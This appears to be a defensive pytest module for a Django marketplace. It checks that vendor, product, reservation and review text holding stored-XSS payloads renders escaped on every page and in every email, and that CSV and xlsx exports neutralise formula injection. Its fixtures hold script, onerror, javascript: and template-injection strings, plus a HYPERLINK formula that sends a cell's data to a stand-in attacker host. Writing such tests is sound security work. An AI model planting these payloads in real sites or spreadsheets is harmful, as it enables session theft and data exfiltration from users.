"""Stored XSS (SPEC §11): text typed by vendors, shoppers and staff renders as text everywhere — public pages,
portal, console, admin, emails — and spreadsheet exports never run it as a formula."""

import csv
import io
import re
from http import HTTPStatus

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from catalog.services.review import certificate_reject
from orders.services import (
    pickup_dates,
    reservation_cancel,
    reservation_collect,
    reservation_mark_ready,
    reservation_place,
)
from tests import factories
from vendors.models import Vendor

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
TEMPLATE = "{{ settings.SECRET_KEY }}{% debug %}"
LINK = '<a href="javascript:alert(3)">klik</a>'
PAYLOAD = f"{SCRIPT}{IMG}{TEMPLATE}"
FORMULA = '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'
# What must never reach a page unescaped.
RAW = re.compile(r"<script>alert|<img src=x onerror|href=\"?javascript:", re.IGNORECASE)


def assert_inert(html: str, where: str) -> None:
    """No payload reached the page as markup, and no template tag typed by a user was evaluated."""
    assert not RAW.search(html), f"unescaped payload in {where}"
    assert "tests-only-not-a-secret" not in html, f"template syntax evaluated in {where}"


@pytest.fixture
def hostile(centre, dinas_user, django_capture_on_commit_callbacks):
    """Everything people can type, filled with payloads: vendor, product, reservation, reasons and notes."""
    with django_capture_on_commit_callbacks(execute=True):
        return _hostile(centre, dinas_user)


def _hostile(centre, dinas_user) -> dict:
    owner = factories.UserFactory(username="pemilik-nakal")
    vendor = factories.VendorFactory(owner=owner, name=f"UMKM {SCRIPT}"[:120], story=f"{PAYLOAD} {LINK}")
    factories.UnitAssignmentFactory(vendor=vendor, unit=factories.ShopUnitFactory(centre=centre, code="X-01"))
    product = factories.ProductFactory(
        vendor=vendor, name=f"Keripik {SCRIPT}{IMG}"[:120], description=f"{PAYLOAD} {LINK}", stock_on_hand=10
    )
    formula = factories.ProductFactory(vendor=vendor, name=FORMULA, stock_on_hand=10)
    shopper = factories.UserFactory(username="pembeli-nakal", first_name=SCRIPT[:30])
    day = pickup_dates(centre, now=timezone.now())[1]
    placed = reservation_place(
        shopper=shopper,
        items={product.pk: 1, formula.pk: 1},
        pickup_date=day,
        contact_name=f"Budi {IMG}"[:120],
        contact_phone="+6281234567891",
        note=f"{PAYLOAD} {LINK}",
        checkout_token="xss-1",
    )[0]
    reservation_mark_ready(reservation=placed, actor=owner)
    reservation_collect(vendor=vendor, code=placed.code, actor=owner)
    cancelled = reservation_place(
        shopper=shopper,
        items={product.pk: 1},
        pickup_date=day,
        contact_name="Budi",
        contact_phone="+6281234567891",
        note="",
        checkout_token="xss-2",
    )[0]
    reservation_cancel(reservation=cancelled, actor=owner, reason=f"{SCRIPT}{IMG}"[:120])
    certificate = factories.CertificateFactory(vendor=vendor, status="submitted", products=[product])
    certificate_reject(certificate=certificate, actor=dinas_user, note=f"{PAYLOAD} {LINK}")
    applicant = factories.VendorFactory(
        owner=factories.UserFactory(username="calon-nakal"), name=f"Calon {IMG}", status=Vendor.Status.SUBMITTED
    )
    return {
        "owner": owner,
        "shopper": shopper,
        "vendor": vendor,
        "product": product,
        "placed": placed,
        "cancelled": cancelled,
        "certificate": certificate,
        "applicant": applicant,
    }


def _get(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == HTTPStatus.OK, url
    return response.content.decode()


def test_public_pages_show_hostile_text_as_text(client, hostile):
    product, vendor = hostile["product"], hostile["vendor"]
    pages = [
        reverse("catalog:home"),
        reverse("catalog:product-list"),
        reverse("catalog:product-list") + "?q=%3Cscript%3Ealert(1)%3C/script%3E",
        product.get_absolute_url(),
        reverse("catalog:vendor-list"),
        vendor.get_absolute_url(),
        reverse("catalog:floor-plan"),
    ]
    for url in pages:
        assert_inert(_get(client, url), url)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in _get(client, product.get_absolute_url())


def test_shopper_pages_show_hostile_text_as_text(client, hostile):
    client.force_login(hostile["shopper"])
    client.post(reverse("orders:cart-add"), {"product": hostile["product"].pk, "quantity": 1})
    for url in [
        reverse("orders:cart"),
        reverse("orders:checkout"),
        reverse("orders:reservation-list"),
        hostile["placed"].get_absolute_url(),
        hostile["cancelled"].get_absolute_url(),
    ]:
        assert_inert(_get(client, url), url)


def test_owner_portal_pages_show_hostile_text_as_text(client, hostile):
    client.force_login(hostile["owner"])
    codes = [hostile["placed"].code, hostile["cancelled"].code]
    urls = [reverse(f"vendors:{name}") for name in ["dashboard", "profile", "product-list", "certificate-list"]]
    urls += [reverse(f"vendors:{name}") for name in ["reservation-list", "labels", "sales-report"]]
    urls += [reverse("vendors:reservation-detail", args=[code]) for code in codes]
    urls.append(reverse("vendors:product-edit", args=[hostile["product"].pk]))
    for url in urls:
        assert_inert(_get(client, url), url)


def test_console_pages_show_hostile_text_as_text(client, hostile, dinas_user):
    client.force_login(dinas_user)
    urls = [reverse(f"console:{name}") for name in ["dashboard", "vendor-list", "certificate-list", "unit-list"]]
    urls += [
        reverse("console:vendor-detail", args=[hostile["vendor"].pk]),
        reverse("console:vendor-detail", args=[hostile["applicant"].pk]),
        reverse("console:certificate-detail", args=[hostile["certificate"].pk]),
        reverse("console:vendor-list") + "?q=%3Cimg+src%3Dx+onerror%3Dalert(2)%3E",
    ]
    for url in urls:
        assert_inert(_get(client, url), url)


def test_admin_pages_show_hostile_text_as_text(client, hostile):
    client.force_login(factories.UserFactory(username="root", is_staff=True, is_superuser=True))
    for model, obj in [
        ("vendors_vendor", hostile["vendor"]),
        ("catalog_product", hostile["product"]),
        ("orders_reservation", hostile["placed"]),
        ("catalog_certificate", hostile["certificate"]),
    ]:
        assert_inert(_get(client, reverse(f"admin:{model}_changelist")), model)
        assert_inert(_get(client, reverse(f"admin:{model}_change", args=[obj.pk])), model)


def test_emails_show_hostile_text_as_text(hostile):
    assert mail.outbox, "placing, cancelling and reviewing send emails"
    for message in mail.outbox:
        for body, kind in [(message.body, "text/plain")] + list(getattr(message, "alternatives", [])):
            if kind == "text/html":
                assert_inert(body, f"email {message.subject}")
            assert "tests-only-not-a-secret" not in body


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    dialect = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=dialect) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(cells, starts=("=", "+", "-", "@")) -> None:
    """CSV: no cell starts like a formula. xlsx: text cells are never run, only `=` would become a formula."""
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert any("HYPERLINK" in cell for cell in texts), "the hostile name is in the export"
    assert not [cell for cell in texts if cell.startswith(starts) and not _is_phone(cell)]


def _is_phone(cell: str) -> bool:
    return bool(re.fullmatch(r"\+\d{8,15}", cell))


def test_owner_sales_report_exports_neutralise_spreadsheet_formulas(client, hostile):
    client.force_login(hostile["owner"])
    for fmt, read in [("csv", _csv_cells), ("xlsx", _xlsx_cells)]:
        response = client.get(reverse("vendors:sales-report-export", kwargs={"fmt": fmt}))
        assert response.status_code == HTTPStatus.OK
        _assert_no_formula(read(response.content), starts=("=",) if fmt == "xlsx" else ("=", "+", "-", "@"))


def test_console_exports_neutralise_spreadsheet_formulas(client, hostile, dinas_user):
    factories.VendorFactory(name=FORMULA[:120])
    client.force_login(dinas_user)
    for fmt, read in [("csv", _csv_cells), ("xlsx", _xlsx_cells)]:
        response = client.get(reverse(f"console:report-{fmt}", kwargs={"slug": "umkm"}))
        assert response.status_code == HTTPStatus.OK
        content = b"".join(response.streaming_content) if response.streaming else response.content
        _assert_no_formula(read(content), starts=("=",) if fmt == "xlsx" else ("=", "+", "-", "@"))
